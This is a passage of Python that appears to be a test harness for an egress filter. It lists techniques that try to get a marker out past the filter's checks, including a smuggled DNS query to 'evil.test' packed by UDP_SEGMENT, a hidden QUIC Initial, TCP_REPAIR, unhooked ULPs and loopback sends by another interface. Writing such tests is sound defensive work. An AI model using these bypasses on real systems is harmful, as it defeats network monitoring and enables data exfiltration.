            while sock.getsockopt(level, number) != 1:
                if calls.LIBC.setsockopt(sock.fileno(), level, number, ctypes.byref(address), 5000) < 0 and \
                        ctypes.get_errno() != errno.EPERM:
                    calls.checked(-1, "setsockopt")
                if time.monotonic() > over:
                    raise OSError(errno.EPERM, "never taken")
        finally:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        sock.sendto(t.marker, (GOOD6 if family == AF_INET6 else GOOD4, t.port))

    run.__doc__ = f"{what} 1, in an option larger than a page that said 64 when it was judged"
    technique("A11", name, oracle="marker", allow=False, timeout=8)(run)


changed("ttl-changed", "IP_TTL", IP, socket.IP_TTL)
changed("hops6-changed", "IPV6_UNICAST_HOPS", IPV6, socket.IPV6_UNICAST_HOPS, AF_INET6)


@technique("A11", "zerocopy-send", oracle="marker", allow=False)
def zerocopy_send(t):
    """MSG_ZEROCOPY: pages that the sender can change after they were inspected"""
    resolve("good.test")
    sock = t.connect(host=GOOD4)
    sock.setsockopt(SOCKET, 60, 1)
    sock.send(t.marker, 0x4000000)


def control(name, what, level, number, value, family=AF_INET, **more):
    def run(t):
        sock = t.udp(family)
        host = t.host6 if family == AF_INET6 else t.host4
        data = value(t) if callable(value) else value
        missing(sock.sendmsg, [t.marker], [(level, number, data)], 0, (host, t.port))

    run.__doc__ = f"sendmsg() with {what}"
    technique("A11", name, **more)(run)


def index():
    return socket.if_nametoindex("eth0")


control("cmsg-ttl", "IP_TTL beside the data", IP, socket.IP_TTL, struct.pack("=i", 64))
control("cmsg-hops6", "IPV6_HOPLIMIT beside the data", IPV6, 52, struct.pack("=i", 64), AF_INET6)
control("cmsg-pktinfo", "IP_PKTINFO: source address and interface beside the data", IP, 8,
        lambda t: struct.pack("=i4s4x", index(), socket.inet_aton(SELF4)))
control("cmsg-pktinfo6", "IPV6_PKTINFO: source address and interface beside the data", IPV6, 50,
        lambda t: socket.inet_pton(AF_INET6, "2001:db8:5a11::1") + struct.pack("=i", index()), AF_INET6)
control("cmsg-segment", "UDP_SEGMENT beside the data, which needs no option", UDP, 103, struct.pack("=H", 6))


@technique("A11", "txtime")
def txtime(t):
    """sendmsg() with a time to be sent at (SO_TXTIME)"""
    sock = t.udp()
    sock.setsockopt(SOCKET, 61, struct.pack("=iI", 1, 0))  # SO_TXTIME, CLOCK_MONOTONIC
    sock.sendmsg([t.marker], [(SOCKET, 61, struct.pack("=Q", 1))], 0, (t.host4, t.port))


@technique("A11", "cmsg-segment-dns", oracle="marker", allow=False)
def cmsg_segment_dns(t):
    """UDP_SEGMENT beside the data: an allowed query, and one that is not, in one send to the resolver"""
    def query(labels):
        return b"\0\7\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(x)]) + x for x in labels) + b"\0\0\1\0\1"

    second = query([t.marker, b"evil", b"test"])
    first = query([b"a" * len(t.marker), b"wild", b"test"])
    t.udp().sendmsg([first + second], [(UDP, 103, struct.pack("=H", len(first)))], 0, ("198.18.0.53", 53))


@technique("A11", "cmsg-segment-quic", oracle="marker", allow=False)
def cmsg_segment_quic(t):
    """UDP_SEGMENT beside the data: a QUIC Initial behind a datagram that is none, to an allowed name"""
    resolve("good.test")
    initial = b"\xc3\0\0\0\1\x08" + t.marker[:8] + b"\0\0\x44\x9e" + t.marker
    initial += bytes(1200 - len(initial))
    t.udp().sendmsg([bytes(1200) + initial], [(UDP, 103, struct.pack("=H", 1200))], 0, (GOOD4, t.port))


@technique("A11", "repair", allow=False, users=("65534", "root"))
def repair(t):
    """TCP_REPAIR: a connection without a handshake, in the middle of its stream"""
    sock = t.tcp()
    sock.setsockopt(TCP, 19, 1)
    sock.bind((SELF4, 0))
    sock.connect((t.host4, t.port))
    sock.setsockopt(TCP, 19, 0)
    sock.send(t.marker)


@technique("A11", "ulp-tls")
def ulp_tls(t):
    """kTLS: a socket whose calls are those of another protocol (TCP_ULP)"""
    sock = t.connect()
    try:
        sock.setsockopt(TCP, 31, b"tls")
    except FileNotFoundError as error:
        raise NotHere("no tls in this kernel") from error
    sock.send(t.marker)


@technique("A11", "ulp-other", allow=False)
def ulp_other(t):
    """a socket that is given to a protocol which is not TLS (TCP_ULP): SMC, whose data no hook sees; ESP in TCP"""
    sock = t.tcp()
    for name in (b"smc", b"espintcp"):
        try:
            sock.setsockopt(TCP, 31, name)
            break
        except OSError as error:
            # SMC wants a socket before, ESP one after connect()
            last = error
    else:
        sock = t.connect()
        try:
            sock.setsockopt(TCP, 31, b"espintcp")
        except FileNotFoundError:
            raise NotHere("neither is in this kernel") from last
        sock.send(t.marker)
        return
    sock.connect((t.host4, t.port))
    sock.send(t.marker)


# ---- A12: loopback addresses by another interface than lo ----------------------------------------
# The marker of what stays on lo is another one: `inside` is what a program may send to itself.


def pktinfo(address):
    """IP_PKTINFO, IPV6_PKTINFO: the interface beside the data"""
    if ":" in address and not address.startswith("::ffff:"):
        return [(IPV6, 50, bytes(16) + struct.pack("=I", index()))]
    return [(IP, 8, struct.pack("=I8x", index()))]


def own(t, address):
    listener = t.udp(AF_INET6 if ":" in address else AF_INET)
    listener.bind((address, t.port))
    return listener


def by_wire(name, what, address, policy="default", flags=0, connected=False):
    def run(t):
        listener = own(t, address)
        sock = t.udp(listener.family)
        sock.sendto(b"inside", (address, t.port))
        listener.recv(10)  # allowed, and settled where anything is
        if connected:
            sock.connect((address, t.port))
        sock.sendmsg([t.marker], pktinfo(address), flags, None if connected else (address, t.port))

    run.__doc__ = f"to a listener of its own on {address}, the interface chosen: {what}"
    technique("A12", name, oracle="marker", allow=False, policy=policy)(run)


by_wire("own4", "IP_PKTINFO", "127.0.0.1")
by_wire("own4-connected", "IP_PKTINFO on a connected socket", "127.0.0.1", connected=True)
by_wire("own4-other", "IP_PKTINFO", "127.9.9.9")
by_wire("own-mapped", "IP_PKTINFO on an IPv6 socket", "::ffff:127.0.0.1")
by_wire("own6", "IPV6_PKTINFO", "::1")
by_wire("own6-connected", "IPV6_PKTINFO on a connected socket", "::1", connected=True)
by_wire("rule4", "IP_PKTINFO, where a rule allows 127.0.0.0/8", "127.0.0.1", "local")
by_wire("rule6", "IPV6_PKTINFO, where a rule allows ::1", "::1", "local")


@technique("A12", "own6-sticky", oracle="marker", allow=False)
def own6_sticky(t):
    """to a listener of its own on ::1, the interface chosen by the option IPV6_PKTINFO"""
    listener, sock = own(t, "::1"), t.udp(AF_INET6)
    sock.setsockopt(IPV6, 50, bytes(16) + struct.pack("=I", index()))
    sock.connect(("::1", t.port))
    sock.send(t.marker)
    listener.close()


@technique("A12", "resolver", oracle="marker", allow=False, policy="local")
def loopback_resolver(t):
    """a query to a trusted resolver on loopback, by a wire"""
    query = b"\0\0\1\0\0\1\0\0\0\0\0\0" + bytes([len(t.marker)]) + t.marker + b"\4wild\4test\0\0\1\0\1"
    t.udp().sendmsg([query], pktinfo("127.0.0.53"), 0, ("127.0.0.53", 53))


@technique("A12", "bound6", oracle="marker", allow=False)
def bound6(t):
    """a socket bound to the link-local address of an interface, to a listener of its own on ::1"""
    with open("/proc/net/if_inet6", encoding="ascii") as file:
        lines = [line.split() for line in file]
    local = next(socket.inet_ntop(AF_INET6, bytes.fromhex(line[0])) for line in lines
                 if line[5] == "eth0" and line[0].startswith("fe80"))
    listener, sock = own(t, "::1"), t.udp(AF_INET6)
    sock.bind((local, 0, 0, index()))
    sock.sendto(t.marker, ("::1", t.port))
    listener.close()


# ---- A14: the copies that this host gets of broadcasts and multicasts ---------------------------


def copy(name, what, address, connected=True, prepare=None):
    family = AF_INET6 if ":" in address else AF_INET

    def run(t):
        sock = t.udp(family)
        sock.setsockopt(SOCKET, socket.SO_BROADCAST, 1)
        if prepare:
            prepare(sock)
        target = (address, t.port, 0, index()) if address.startswith("ff") else (address, t.port)
        if connected:
            sock.connect(target)
            sock.send(t.marker[::-1])
        else:
            sock.sendmsg([t.marker[::-1]], [], 0, target)

    def beside(harness, t):
        return heard(harness, t, AF_INET6 if address.startswith("ff") else AF_INET)

    run.__doc__ = f"the host's own copy of a datagram to {address}: {what}"
    technique("A14", name, allow=False, beside=beside)(run)


def by_eth0(sock):
    sock.setsockopt(IP, socket.IP_MULTICAST_IF, socket.inet_aton(SELF4))


def unsent(sock):
    by_eth0(sock)
    sock.setsockopt(IP, socket.IP_MULTICAST_TTL, 0)


copy("limited", "connect() and send()", "255.255.255.255")
copy("limited-to", "sendmsg()", "255.255.255.255", connected=False)
copy("limited-mapped", "connect() and send() on an IPv6 socket", "::ffff:255.255.255.255")
copy("subnet", "connect() and send()", "198.18.0.255")
copy("subnet-to", "sendmsg()", "198.18.0.255", connected=False)
copy("group4", "connect() and send()", "224.0.0.1", prepare=by_eth0)
copy("group4-to", "sendmsg()", "224.0.0.1", connected=False, prepare=by_eth0)
copy("group4-ttl0", "IP_MULTICAST_TTL 0, so that no other copy is sent", "224.0.0.1", prepare=unsent)
copy("group6", "connect() and send()", "ff02::1")
copy("group6-to", "sendmsg()", "ff02::1", connected=False)
copy("group6-node", "the group of this node alone", "ff01::1")
